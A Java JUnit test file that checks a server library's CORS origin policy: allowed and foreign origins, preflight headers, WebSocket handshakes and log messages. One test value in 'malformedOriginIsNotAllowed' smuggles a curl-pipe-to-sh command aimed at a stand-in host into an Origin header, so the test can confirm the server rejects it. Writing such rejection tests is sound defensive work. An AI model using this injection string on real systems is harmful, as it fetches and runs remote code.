package dev.carillon;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.carillon.testing.EngineIoFixture;
import dev.carillon.testing.HttpReply;
import dev.carillon.testing.LogCapture;
import dev.carillon.testing.RawHttp;
import dev.carillon.testing.RawWebSocket;
import java.time.Duration;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

/** The effect of the origin policy on HTTP responses. */
class CorsHttpTest {
    private static final String APP = "https://app.example.com";
    private static final String POLLING = EngineIoFixture.POLLING;

    private static EngineIoFixture start(Consumer<Cors.Builder> policy) {
        return EngineIoFixture.start(options -> options.cors(policy));
    }

    private static HttpReply preflight(EngineIoFixture server, String... headers) {
        return server.http()
                .send(RawHttp.request("OPTIONS", POLLING, headers) + "\r\n")
                .read();
    }

    @Test
    void allowedOriginIsSentInTheResponse() {
        try (var server = start(cors -> cors.origins(APP))) {
            HttpReply reply = server.http().get(POLLING, "Origin: " + APP);
            assertEquals(200, reply.status());
            assertEquals(APP, reply.header("Access-Control-Allow-Origin"));
            assertEquals("origin", reply.header("Vary"));
            assertNull(reply.header("Access-Control-Allow-Credentials"));
        }
    }

    @Test
    void responseVariesByOriginEvenWithoutOne() {
        try (var server = start(cors -> cors.origins(APP))) {
            HttpReply reply = server.http().get(POLLING);
            assertEquals("origin", reply.header("Vary"));
            assertNull(reply.header("Access-Control-Allow-Origin"));
        }
    }

    @Test
    void wildcardOriginDoesNotVary() {
        try (var server = start(cors -> cors.origins("*"))) {
            HttpReply reply = server.http().get(POLLING, "Origin: https://anyone.test");
            assertEquals("*", reply.header("Access-Control-Allow-Origin"));
            assertNull(reply.header("Vary"));
        }
    }

    @Test
    void credentialsAndExposedHeadersAreSentWithTheResponse() {
        try (var server = start(cors -> cors.origins(APP).credentials(true).exposedHeaders("X-One", "X-Two"))) {
            HttpReply reply = server.http().get(POLLING, "Origin: " + APP);
            assertEquals("true", reply.header("Access-Control-Allow-Credentials"));
            assertEquals("X-One,X-Two", reply.header("Access-Control-Expose-Headers"));
        }
    }

    @Test
    void allowedOriginCanReadEveryError() {
        try (var server = start(cors -> cors.origins(APP))) {
            for (String target : new String[] {
                "/engine.io/?EIO=3&transport=polling", POLLING + "&sid=x", "/engine.io/?EIO=4&transport=abc"
            }) {
                HttpReply reply = server.http().get(target, "Origin: " + APP);
                assertEquals(400, reply.status());
                assertEquals(APP, reply.header("Access-Control-Allow-Origin"), target);
            }
        }
    }

    @Test
    void preflightEchoesTheRequestedHeaders() {
        try (var server = start(cors -> cors.origins(APP))) {
            HttpReply reply = preflight(
                    server,
                    "Origin: " + APP,
                    "Access-Control-Request-Method: POST",
                    "Access-Control-Request-Headers: content-type,x-mine");
            assertEquals(204, reply.status());
            assertEquals("", reply.body());
            assertEquals(APP, reply.header("Access-Control-Allow-Origin"));
            assertEquals("GET,POST", reply.header("Access-Control-Allow-Methods"));
            assertEquals("content-type,x-mine", reply.header("Access-Control-Allow-Headers"));
            assertEquals("origin,access-control-request-headers", reply.header("Vary"));
            assertNull(reply.header("Access-Control-Max-Age"));
        }
    }

    @Test
    void preflightReturnsTheConfiguredPolicy() {
        try (var server = start(cors -> cors.origins(APP)
                .methods("GET", "POST", "PUT")
                .allowedHeaders("X-Only")
                .credentials(true)
                .maxAge(Duration.ofMinutes(10)))) {
            HttpReply reply = preflight(server, "Origin: " + APP, "Access-Control-Request-Headers: x-other");
            assertEquals("GET,POST,PUT", reply.header("Access-Control-Allow-Methods"));
            assertEquals("X-Only", reply.header("Access-Control-Allow-Headers"));
            assertEquals("600", reply.header("Access-Control-Max-Age"));
            assertEquals("true", reply.header("Access-Control-Allow-Credentials"));
        }
    }

    @Test
    void preflightFromAForeignOriginIsForbidden() {
        try (var server = start(cors -> cors.origins(APP))) {
            HttpReply reply = preflight(server, "Origin: https://evil.test");
            assertEquals(403, reply.status());
            assertNull(reply.header("Access-Control-Allow-Origin"));
        }
    }

    @Test
    void foreignOriginIsRefusedOnBothTransports() {
        try (var server = start(cors -> cors.origins(APP))) {
            HttpReply polling = server.http().get(POLLING, "Origin: https://evil.test");
            assertEquals(403, polling.status());
            assertNull(polling.header("Access-Control-Allow-Origin"));
            RawHttp webSocket = server.http();
            webSocket.send(RawWebSocket.handshake(EngineIoFixture.WEBSOCKET, "Origin: https://evil.test"));
            assertEquals(403, webSocket.read().status());
            assertTrue(server.opened().isEmpty());
        }
    }

    @Test
    void foreignOriginCannotUseAnExistingSession() {
        try (var server = EngineIoFixture.start()) {
            String target = server.poll().target();
            assertEquals(
                    403, server.http().get(target, "Origin: https://evil.test").status());
            assertEquals(
                    403,
                    server.http()
                            .post(target, "4x", "Origin: https://evil.test")
                            .status());
        }
    }

    @Test
    void sameOriginIsAlwaysAllowed() {
        try (var server = start(cors -> cors.origins(APP))) {
            HttpReply reply = server.http().get(POLLING, "Origin: http://me.test:81", "Host: me.test:81");
            assertEquals(200, reply.status());
        }
    }

    @Test
    void allowedOriginCanOpenAWebSocket() {
        try (var server = start(cors -> cors.origins(APP));
                var webSocket = RawWebSocket.over(server.http(), EngineIoFixture.WEBSOCKET, "Origin: " + APP)) {
            assertEquals('0', webSocket.readText().charAt(0));
        }
    }

    @Test
    void refusedOriginIsLoggedOnceWithTheOptionToSet() {
        try (LogCapture log = LogCapture.open();
                EngineIoFixture server = EngineIoFixture.start()) {
            for (int i = 0; i < 2; i++) {
                for (String origin : List.of("https://app.example.com", "https://b.example:8443")) {
                    assertEquals(
                            403,
                            server.http()
                                    .get(EngineIoFixture.POLLING, "Origin: " + origin)
                                    .status());
                    server.http()
                            .send(RawWebSocket.handshake(EngineIoFixture.WEBSOCKET, "Origin: " + origin))
                            .read();
                }
            }
            List<String> messages = log.messages();
            assertEquals(2, messages.size(), messages.toString());
            assertTrue(
                    messages.get(0).startsWith("WARN Refused a page from origin https://app.example.com: "),
                    messages.get(0));
            assertTrue(messages.get(0).contains("cors(c -> c.origins(\"https://app.example.com\"))"), messages.get(0));
            assertTrue(messages.get(0).contains("--cors-origin https://app.example.com"), messages.get(0));
            assertTrue(messages.get(1).contains("https://b.example:8443"), messages.get(1));
        }
    }

    @Test
    void nullOriginIsExplainedInTheLog() {
        try (LogCapture log = LogCapture.open();
                EngineIoFixture server = EngineIoFixture.start()) {
            server.http().get(EngineIoFixture.POLLING, "Origin: null");
            server.http().get(EngineIoFixture.POLLING, "Origin: null");
            assertEquals(1, log.messages().size());
            assertTrue(
                    log.messages().get(0).contains("sandboxed frame"),
                    log.messages().get(0));
        }
    }

    @Test
    void malformedOriginIsNotAllowed() {
        try (LogCapture log = LogCapture.open();
                EngineIoFixture server = EngineIoFixture.start()) {
            for (String origin : List.of(
                    "https://x;curl${IFS}evil.example|sh;#",
                    "https://b.example\u00e9",
                    "*",
                    "app.example.com",
                    "https://" + "x".repeat(5000))) {
                assertEquals(
                        403,
                        server.http()
                                .get(EngineIoFixture.POLLING, "Origin: " + origin)
                                .status());
            }
            assertEquals(List.of(), log.messages());
        }
    }

    @Test
    void numberOfLoggedOriginsIsLimited() {
        try (LogCapture log = LogCapture.open();
                EngineIoFixture server = EngineIoFixture.start();
                RawHttp http = server.http()) {
            for (int i = 0; i < 120; i++) {
                http.get(EngineIoFixture.POLLING, "Origin: https://" + i + ".test");
            }
            List<String> messages = log.messages();
            assertEquals(100, messages.size());
            assertTrue(messages.get(99).contains("further origins are not logged"), messages.get(99));
        }
    }
}
